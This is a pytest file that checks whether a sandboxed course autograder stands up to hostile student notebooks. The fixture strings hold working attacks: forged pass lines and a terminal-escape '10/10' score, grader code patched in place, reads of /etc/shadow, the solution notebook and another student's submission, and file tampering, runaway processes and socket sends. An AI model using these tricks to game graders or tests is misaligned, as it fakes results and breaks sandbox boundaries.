"""A grader no notebook can talk into a grade: hostile notebooks, on the pytest route and with real `nbgrader autograde`.

The checks run in the grader's process; the notebook runs once, in a bubblewrap sandbox, and is reached only through
stand-ins that carry plain data (course/grading/grade_worker.py, course/grading/proxy.py). One hostile lesson-01 notebook holds most
attacks; each is aimed at what the grader must refuse:
- top level: looks for the grader's result channel and token in its frames and in `gc` and writes forged "passed"
  lines to its outputs; edits the checks', `expect`'s and numpy's code in place; replaces torch's attention by a
  wrong one; reads the repository's solution notebook, the reference module (exec, spec_from_file_location), another
  student's submission and /etc/shadow and uses whatever it got as its answers; changes the mode, owner, times and
  extended attributes of files outside its folder (and `chmod 000 tests/autograder`); writes into the grader's
  checks.py and working directory; starts processes that outlive it (double fork with setsid,
  `Popen(start_new_session=True)`); sends to 127.0.0.1 listeners over TCP, UDP, a path-named and an abstract unix
  socket; prints 300 MB; raises KeyboardInterrupt with a message that would draw "total 10/10" on a terminal;
- `scaled_dot_product_attention` leaves out 1/√d and, depending on its inputs, loops catching BaseException, writes
  malformed frames (one announcing 256 MiB) into every descriptor, or returns objects whose `.shape` loops;
- `MultiHeadAttention` is right but calls `os._exit(0)` or raises KeyboardInterrupt on some inputs.
Expected: 2 of 10 points (the two checks the wrong attention really passes), every other check failed with a
message naming what happened, nothing outside the scratch folder changed, no process left, nothing received, a
bounded report in bounded time; the same points per check from pytest and from nbgrader.
The nbgrader route is a long run (`make test-long`); the pytest route, the same notebook through the same grading
engine, stands in for it in `make test`.
"""
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time

import pytest

from course.grading.autograde import Limits, grade
from course.grading.notebook_spec import REPO, nbgrader_cmd

LESSON = "part0_foundations.l01_attention.checks"
CHECK_S = 3  # the per-check limit in these tests: loops are stopped in seconds
MARKER = "grader-hostile-leftover-7f3a"

HOSTILE_TOP = r'''
import ctypes, gc, json, os, socket, subprocess, sys, time
import numpy as np, torch, torch.nn.functional as F
import course.grading.contract as grading

# 1. The grader's result channel, token or send function: searched for in every frame and every object.
found = []
f = sys._getframe()
while f is not None:
    found += [k for k in f.f_locals if k in ("send", "token", "result_fd", "out")]
    f = f.f_back
for o in gc.get_objects():
    if callable(o) and getattr(o, "__name__", "") in ("_send", "send"):
        found.append(getattr(o, "__qualname__", "?"))
print("grader objects found:", found)
forged = "".join(json.dumps({"kind": "check", "id": i, "passed": True, "message": "", "token": "x"}) + "\n"
                 for i in ("sdpa_matches_torch", "sdpa_causal_decode", "sdpa_stable", "sdpa_masked_weights_zero",
                           "mha_matches_torch", "mha_mask_every_head", "gqa_equals_repeated_mha",
                           "mqa_and_cross_attention"))
sys.stdout.write(forged); sys.stderr.write(forged)

# 2. Code edited in place: the checks, expect, numpy's all, torch's attention.
from part0_foundations.l01_attention import checks as _c
for _n in dir(_c):
    if _n.startswith("check_"):
        getattr(_c, _n).__code__ = (lambda *a, **k: None).__code__
grading.expect.__code__ = (lambda *a, **k: None).__code__
np.all = lambda *a, **k: True
def _wrong(q, k, v, attn_mask=None, is_causal=False, **kw):
    return torch.softmax(q @ k.transpose(-2, -1), -1) @ v
F.scaled_dot_product_attention = _wrong

# 3. Copied answers: whatever can be read is used as the answer.
def _use_notebook(path):
    try:
        nb = json.load(open(path))
        for c in nb["cells"]:
            if c["cell_type"] == "code" and "def scaled_dot_product_attention" in "".join(c["source"]):
                exec("".join(c["source"]), globals())
                print("COPIED from", path)
    except Exception as e:
        print("read refused:", path, type(e).__name__)
_use_notebook(os.path.join(REPO_DIR, "solutions/01_attention/attention.ipynb"))
_use_notebook(OTHER_SUBMISSION)
_ref = os.path.join(REPO_DIR, "part0_foundations/l01_attention/attention.py")
try:
    exec(open(_ref).read(), globals())
    import importlib.util
    _spec = importlib.util.spec_from_file_location("refcopy", _ref)
    _m = importlib.util.module_from_spec(_spec); _spec.loader.exec_module(_m)
    scaled_dot_product_attention = _m.scaled_dot_product_attention
except Exception as e:
    print("reference refused:", type(e).__name__)
try:
    print("SHADOW", len(open("/etc/shadow").read()))
except Exception as e:
    print("shadow refused:", type(e).__name__)

# 4. Files outside the scratch folder: contents, modes, owners, times, extended attributes.
for _path in VICTIMS:
    for _what, _act in (("chmod", lambda p: os.chmod(p, 0)), ("chown", lambda p: os.chown(p, 1234, 1234)),
                        ("utime", lambda p: os.utime(p, (1, 1))),
                        ("setxattr", lambda p: os.setxattr(p, "user.pwned", b"1")),
                        ("append", lambda p: open(p, "a").write("\npwned\n")),
                        ("remove", lambda p: os.remove(p))):
        try:
            _act(_path)
            print("CHANGED", _what, _path)
        except Exception as e:
            pass
try:
    open(os.path.join(REPO_DIR, "pwned.txt"), "w").write("x")
except OSError:
    pass

# 5. Processes that try to outlive grading.
try:
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", MARKER], start_new_session=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", MARKER])
        os._exit(0)
except Exception as e:
    print("spawn refused:", e)

# 6. The machine's local services.
for _fam, _kind, _addr in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", TCP_PORT)),
                           (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", UDP_PORT)),
                           (socket.AF_UNIX, socket.SOCK_STREAM, UNIX_PATH),
                           (socket.AF_UNIX, socket.SOCK_STREAM, "\0" + ABSTRACT_NAME)):
    try:
        _s = socket.socket(_fam, _kind); _s.settimeout(1)
        _s.connect(_addr); _s.sendall(b"leak") if _kind == socket.SOCK_STREAM else _s.send(b"leak")
        print("SENT to", _addr)
    except Exception as e:
        pass

for _ in range(300):
    sys.stdout.write("x" * 1_000_000)
# 7. A message that, printed raw on a terminal, erases the score's last line and draws full marks over it.
raise KeyboardInterrupt("\x1b[1A\x1b[2K\r  total                     10/10")
'''

HOSTILE_SDPA = r'''
def scaled_dot_product_attention(q, k, v, mask=None, causal=False, return_weights=False):
    import os, struct, time
    if causal and q.shape[-2] < k.shape[-2]:       # the decode-step check: a loop that swallows every exception
        while True:
            try:
                time.sleep(0.05)
            except BaseException:
                pass
    if float(q.detach().abs().max()) > 100:        # the large-logits check: malformed frames into every descriptor
        for fd in range(3, 64):
            for junk in (b"GRADEWR1" + struct.pack("<QQ", 256 << 20, 0), b"x" * 65536, b"\n{\"r\": 1}\n"):
                try:
                    os.write(fd, junk)
                except OSError:
                    pass
        time.sleep(30)
    if return_weights and mask is not None and tuple(mask.shape) == (2, 3, 5, 7):  # a .shape that never answers
        class Endless:
            @property
            def shape(self):
                while True:
                    try:
                        time.sleep(0.05)
                    except BaseException:
                        pass
        return Endless(), Endless()
    lq, lk = _check_attention_inputs(q, k, v, mask)
    scores = q @ k.transpose(-2, -1)               # no 1/sqrt(d): wrong
    allowed = mask
    if causal:
        c = causal_mask(lq, lk)
        allowed = c if allowed is None else allowed & c
    if allowed is not None:
        scores = scores.masked_fill(~allowed, float("-inf"))
    m = scores.amax(-1, keepdim=True)
    e = torch.exp(scores - torch.where(torch.isfinite(m), m, torch.zeros_like(m)))
    d = e.sum(-1, keepdim=True)
    w = e / torch.where(d > 0, d, torch.ones_like(d))
    return (w @ v, w) if return_weights else w @ v
'''

# The right MultiHeadAttention, which exits under one check's inputs and raises KeyboardInterrupt under another's.
HOSTILE_MHA_EXTRA = r'''

_forward = MultiHeadAttention.forward


def _hostile_forward(self, x, *args, **kwargs):
    import os
    if x.shape[-1] == 16:           # the nn.MultiheadAttention comparison (d_model 16)
        os._exit(0)
    if x.shape[-1] == 12:           # the mask check (d_model 12; no other check uses it)
        raise KeyboardInterrupt("\x1b[1A\x1b[2K\r  total                     10/10")
    return _forward(self, x, *args, **kwargs)


MultiHeadAttention.forward = _hostile_forward
'''

REFERENCE_IMPORTS = {
    "sdpa_impl": "from part0_foundations.l01_attention.attention import scaled_dot_product_attention\n",
    "mha_impl": "from part0_foundations.l01_attention import attention\n\n\n"
                "class MultiHeadAttention(attention.MultiHeadAttention):\n    pass\n",
}

EXPECTED = {
    "sdpa_matches_torch": "the scores are not divided by √d",   # HOSTILE_SDPA's own mistake, named
    "sdpa_causal_decode": f"did not finish within {CHECK_S} s",
    "sdpa_stable": "sent what the grader cannot read",
    "sdpa_masked_weights_zero": f"did not finish within {CHECK_S} s",
    "mha_matches_torch": "exited with code 0",
    "mha_mask_every_head": "KeyboardInterrupt",
}
EXPECTED_POINTS = {"sdpa_matches_torch": 0, "sdpa_causal_decode": 0, "sdpa_stable": 0, "sdpa_masked_weights_zero": 0,
                   "mha_matches_torch": 0, "mha_mask_every_head": 0, "gqa_equals_repeated_mha": 0,
                   "mqa_and_cross_attention": 0}  # GQA and MQA are anchored on attention, not on the learner's MHA


def _cell_with(nb, grade_id):
    return next(c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)


def _notebook(path, answers: dict, top: str | None = None):
    """The released lesson-01 notebook with these answer cells, and ``top`` as a cell after the set-up."""
    nb = json.loads((REPO / "exercises/01_attention/attention.ipynb").read_text())
    for grade_id, src in answers.items():
        _cell_with(nb, grade_id)["source"] = src
    if top:
        setup = next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code")
        nb["cells"].insert(setup + 1, {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
                                       "source": top})
    path.write_text(json.dumps(nb))
    return path


class Listeners:
    """TCP, UDP, path-named and abstract unix sockets on this machine, recording every byte they receive."""

    def __init__(self, tmp):
        self.received, self.socks = [], []
        self.tcp = self._sock(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0))
        self.udp = self._sock(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0))
        self.unix_path = str(tmp / "listener.sock")
        self.unix = self._sock(socket.AF_UNIX, socket.SOCK_STREAM, self.unix_path)
        self.abstract_name = f"grader-hostile-{os.getpid()}"
        self.abstract = self._sock(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + self.abstract_name)
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _sock(self, fam, kind, addr):
        s = socket.socket(fam, kind)
        s.bind(addr)
        if kind == socket.SOCK_STREAM:
            s.listen(8)
        s.settimeout(0.2)
        self.socks.append(s)
        return s

    def _run(self):
        while not self.stop:
            for s in self.socks:
                try:
                    if s.type == socket.SOCK_DGRAM:
                        self.received.append(s.recv(1 << 16))
                    else:
                        conn, _ = s.accept()
                        conn.settimeout(1)
                        self.received.append(b"connect:" + conn.recv(1 << 16))
                        conn.close()
                except OSError:
                    pass

    def close(self):
        self.stop = True
        self.thread.join(timeout=5)
        for s in self.socks:
            s.close()


def _stat(path):
    st = os.stat(path)
    try:
        xattrs = sorted(os.listxattr(path))
    except OSError:
        xattrs = []
    content = open(path, "rb").read() if os.path.isfile(path) else sorted(os.listdir(path))
    return (st.st_mode, st.st_uid, st.st_gid, st.st_mtime_ns, xattrs, content)


def _leftovers():
    out = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if MARKER.encode() in open(f"/proc/{pid}/cmdline", "rb").read():
                out.append(int(pid))
        except OSError:
            pass
    return out


@pytest.fixture(scope="module")
def attack(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    victim = tmp / "someone_elses_file.txt"
    victim.write_text("keep me")
    root = tmp / "course"  # also the nbgrader course: another student's submission lies in it
    other = root / "submitted" / "other" / "01_attention" / "attention.ipynb"
    other.parent.mkdir(parents=True)
    shutil.copy(REPO / "solutions/01_attention/attention.ipynb", other)
    victims = [victim, REPO / "part0_foundations/l01_attention/checks.py",
               REPO / "part0_foundations/l01_attention/attention.py", REPO / "tests/autograder"]
    listeners = Listeners(tmp)
    sol = json.loads((REPO / "solutions/01_attention/attention.ipynb").read_text())
    mha = "".join(_cell_with(sol, "mha_impl")["source"]) + HOSTILE_MHA_EXTRA
    top = HOSTILE_TOP
    for name, value in (("REPO_DIR", str(REPO)), ("OTHER_SUBMISSION", str(other)), ("VICTIMS", [str(v) for v in victims]),
                        ("MARKER", MARKER), ("TCP_PORT", listeners.tcp.getsockname()[1]),
                        ("UDP_PORT", listeners.udp.getsockname()[1]), ("UNIX_PATH", listeners.unix_path),
                        ("ABSTRACT_NAME", listeners.abstract_name)):
        top = re.sub(rf"\b{name}\b", lambda _: repr(value), top)
    notebook = _notebook(tmp / "attention.ipynb", {"sdpa_impl": HOSTILE_SDPA, "mha_impl": mha}, top)
    before = {str(v): _stat(v) for v in victims}
    yield notebook, victims, before, listeners, root
    listeners.close()


@pytest.fixture(scope="module")
def background(tmp_path_factory):
    """Gradings started in the background as soon as this module starts: they run beside the nbgrader route (the
    first test), keeping the second CPU busy. Each test below collects its own."""
    from concurrent.futures import ThreadPoolExecutor

    pool = ThreadPoolExecutor(max_workers=2)
    yield pool
    pool.shutdown(wait=True)


@pytest.fixture(scope="module", autouse=True)
def pytest_route(attack, background):
    """The pytest-route grading of the hostile notebook; its checks are in the last test of this module."""
    def run():
        start = time.monotonic()
        proc = subprocess.run(
            [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider",
             str(REPO / "tests/autograder/test_attention.py"), "--notebook", str(attack[0]),
             f"--check-timeout={CHECK_S}"], cwd=REPO, capture_output=True, text=True, timeout=400)
        return proc, time.monotonic() - start

    return background.submit(run)


def _timed_grade(lesson, notebook, limits):
    start = time.monotonic()
    report = grade(lesson, notebook, limits)
    return report, time.monotonic() - start


@pytest.fixture(scope="module", autouse=True)
def direct_gradings(background, tmp_path_factory):
    """The other hostile notebooks, graded through the engine both routes share, in the background."""
    tmp = tmp_path_factory.mktemp("direct")
    costly = _notebook(tmp / "costly.ipynb", {"sdpa_impl": COSTLY_SDPA, "mha_impl": COSTLY_MHA}, top=COSTLY_TOP)
    nb = json.loads((REPO / "exercises/02_encoder_decoder/encoder_decoder.ipynb").read_text())
    _cell_with(nb, "greedy_decode_impl")["source"] = CALLBACK_GREEDY
    (tmp / "greedy.ipynb").write_text(json.dumps(nb))
    return {
        "costly": background.submit(_timed_grade, LESSON, costly, Limits(check_s=CHECK_S)),
        "greedy": background.submit(_timed_grade, "part0_foundations.l02_encoder_decoder.checks",
                                    tmp / "greedy.ipynb", Limits(check_s=60)),
        "fallback": background.submit(_timed_grade, LESSON, REPO / "solutions/01_attention/attention.ipynb",
                                      Limits(check_s=60, sandbox="off")),
    }


def _assert_nothing_escaped(victims, before, listeners):
    for v in victims:
        assert _stat(v) == before[str(v)], f"the notebook changed {v} (contents, mode, owner, times or xattrs)"
    assert not (REPO / "pwned.txt").exists(), "the notebook wrote into the grader's working directory"
    assert _leftovers() == [], "a process the notebook started outlived grading"
    time.sleep(0.5)
    assert listeners.received == [], f"a local service received {listeners.received[:3]}"


@pytest.mark.long(smoke="tests/course/grading/test_hostile_notebooks.py::test_pytest_route_survives_every_attack")
def test_nbgrader_autograde_gives_the_same_points(attack, tmp_path, pytest_route):
    """Real `nbgrader autograde`, with another student's full-marks submission in the same course: the hostile
    notebook gets exactly the pytest route's points per check, and nothing escaped."""
    notebook, victims, before, listeners, root = attack
    shutil.copytree(REPO / "solutions" / "01_attention", root / "solutions" / "01_attention")
    shutil.copy(REPO / "nbgrader_config.py", root / "nbgrader_config.py")
    env = dict(os.environ, COURSE_ROOT=str(root), NBGRADER_EXCHANGE=str(root / "exchange"),
               PYTHONPATH=os.pathsep.join(p for p in (str(REPO), os.environ.get("PYTHONPATH", "")) if p))
    nbg = nbgrader_cmd()
    subprocess.run(nbg + ["generate_assignment", "01_attention", "--force"], cwd=root, env=env, check=True,
                   capture_output=True)
    (root / "submitted" / "hostile" / "01_attention").mkdir(parents=True)
    shutil.copy(notebook, root / "submitted" / "hostile" / "01_attention" / "attention.ipynb")
    other_before = _stat(root / "submitted" / "other" / "01_attention" / "attention.ipynb")
    proc = subprocess.run(nbg + ["autograde", "01_attention", "--student", "hostile", "--force",
                                 f"--IsolatedExecute.check_timeout={CHECK_S}"],
                          cwd=root, env=env, capture_output=True, text=True, timeout=400)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    # the pytest route grades the same notebook in the background: its processes are alive until it ends, so the
    # leftover check waits for it (otherwise a slow machine sees that grading's live sandbox as a leftover)
    pytest_route.result()
    _assert_nothing_escaped(victims, before, listeners)
    assert _stat(root / "submitted" / "other" / "01_attention" / "attention.ipynb") == other_before

    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        nb = gb.find_submission_notebook("attention", "01_attention", "hostile")
        got = {g.name: g.score for g in nb.grades if g.name in EXPECTED_POINTS}
        assert got == EXPECTED_POINTS, (got, proc.stdout[-3000:] + proc.stderr[-3000:])
        assert gb.find_submission("01_attention", "hostile").score == sum(EXPECTED_POINTS.values()) == 0


def test_reference_imports_exits_and_malformed_notebooks(tmp_path):
    """The reference imported or inherited: refused by name (read in the notebook's text, or as the sandbox reports
    the class). os._exit(0) at the top of an empty exercise: every check fails, none passes by exit code. A malformed
    notebook: one message, no traceback."""
    report = grade(LESSON, _notebook(tmp_path / "ref.ipynb", REFERENCE_IMPORTS), Limits(check_s=CHECK_S))
    assert report.earned == 0
    for r in report.results:
        assert "the course's reference implementation" in r.message and "write your own" in r.message, r
    report = grade(LESSON, _notebook(tmp_path / "exit.ipynb", {}, top="import os\nos._exit(0)"), Limits(check_s=CHECK_S))
    assert report.earned == 0 and all("exited with code 0" in r.message for r in report.results), report.results
    for bad, says in (({"cells": "not a list"}, "no list of cells"), ({"cells": [42]}, "cell 0 is not a JSON object"),
                      ({"cells": [{"cell_type": "code", "source": 7}]}, "neither text nor a list")):
        (tmp_path / "bad.ipynb").write_text(json.dumps(bad))
        report = grade(LESSON, tmp_path / "bad.ipynb")
        assert report.earned == 0 and all(says in r.message for r in report.results), (says, report.results[0])


COSTLY_TOP = r'''
import time
print("THE NOTEBOOK RAN")
time.sleep(2)
'''
COSTLY_SDPA = r'''
def scaled_dot_product_attention(q, k, v, mask=None, causal=False, return_weights=False):
    import collections, itertools
    collections.deque(itertools.count(), maxlen=0)   # a loop in C: no signal handler ever runs
'''
COSTLY_MHA = r'''
class MultiHeadAttention:
    def __init__(self, *args, **kwargs):
        while True:
            try:
                pass
            except BaseException:
                pass
'''


def test_timed_out_checks_never_rerun_the_notebook(direct_gradings):
    """Every check times out (a loop in C, a loop that swallows exceptions): the notebook ran once, each check costs
    its own limit, the whole grading the notebook's time plus the checks' limits (and start-up)."""
    report, elapsed = direct_gradings["costly"].result()
    assert report.earned == 0
    assert all(f"did not finish within {CHECK_S} s" in r.message for r in report.results), report.results
    assert report.output.count("THE NOTEBOOK RAN") == 1, report.output[-2000:]
    # 8 checks × (3 s + a fork and a kill) + 2 s of notebook + two interpreters starting, on a busy machine beside
    # other gradings. (Re-running the notebook per timed-out check, as the grader once did, is what the count of
    # "THE NOTEBOOK RAN" above rules out.)
    assert elapsed < 8 * (CHECK_S + 2) + 2 + 120, elapsed


CALLBACK_GREEDY = r'''
def greedy_decode(model, src, max_len):
    tried = []
    for name, act in (("private", lambda: model._modules), ("globals", lambda: model.forward.__globals__),
                      ("load_state_dict", lambda: model.load_state_dict({})), ("train", lambda: model.train()),
                      ("setattr", lambda: setattr(model, "config", None))):
        try:
            act()
            tried.append(name)
        except Exception:
            pass
    if tried:
        raise RuntimeError(f"the grader's model let me: {tried}")
    return model.generate(src, max_len)      # the course's own greedy decoding, reached through the model
'''


def test_reference_reached_through_a_given_model_is_refused(direct_gradings):
    """Lesson 02 hands greedy decoding the trained reference model: a notebook that decodes with the model's own
    `generate` (the reference greedy_decode) is refused by name, and the model's private parts, mutators and
    attributes are out of its reach."""
    report, _ = direct_gradings["greedy"].result()
    for check_id in ("greedy_decode_batched", "greedy_decode_translates"):
        r = report.get(check_id)
        assert not r.passed and "calls the course's reference implementation (greedy_decode from " in r.message, r
    assert report.earned == 0, report.table()


def test_without_bubblewrap_the_grader_says_so_and_grades_the_same(direct_gradings):
    """Where bubblewrap cannot run (here: switched off), the same split grades a correct notebook full marks, and the
    report says the sandbox was not there (the instructors' guide says what that leaves open)."""
    report, _ = direct_gradings["fallback"].result()
    assert report.sandbox == "fallback: bubblewrap was switched off"
    assert report.earned == report.points == 10, report.table()


def test_pytest_route_survives_every_attack(attack, pytest_route):
    notebook, victims, before, listeners, _ = attack
    proc, elapsed = pytest_route.result()
    out = proc.stdout + proc.stderr
    _assert_nothing_escaped(victims, before, listeners)
    assert proc.returncode == 1, out[-3000:]
    assert len(out) < 100_000, f"the report carries {len(out):,} characters of the notebook's printout"
    assert "INTERNALERROR" not in out and "no tests ran" not in out, out[-3000:]
    for check_id, says in EXPECTED.items():
        line = next((ln for ln in out.splitlines() if ln.lstrip().startswith(f"[{check_id}]")), "")
        assert says in line, f"{check_id}: {line or out[-3000:]}"
    for check_id, points in EXPECTED_POINTS.items():
        assert re.search(rf"^  {check_id}\s+{points}/", out, flags=re.M), (check_id, out[-1500:])
    assert re.search(r"total\s+0/10", out), out[-1500:]
    assert "code cell 2 raised KeyboardInterrupt" in out, out[-1500:]  # the notebook's error, reported
    # The forged score: shown as escapes (in the check's message and in the notebook's errors), never drawn.
    assert "\x1b" not in out and "\r" not in out, [ln for ln in out.splitlines() if "\x1b" in ln or "\r" in ln][:3]
    assert out.count("\\x1b[1A\\x1b[2K\\x0d  total") >= 2, out[-3000:]
    assert not re.search(r"^\s*total\s+10/10", out, flags=re.M), out[-1500:]
    assert re.search(r"printed [\d,]+ bytes more than the [\d,]+ kept", out), out[-1500:]
    assert "learner code ran in the bubblewrap sandbox" in out, out[-1500:]
    # Start-up, the notebook (300 MB of printout) and 8 checks of at most 3 s each, on a busy machine.
    assert elapsed < 200, elapsed
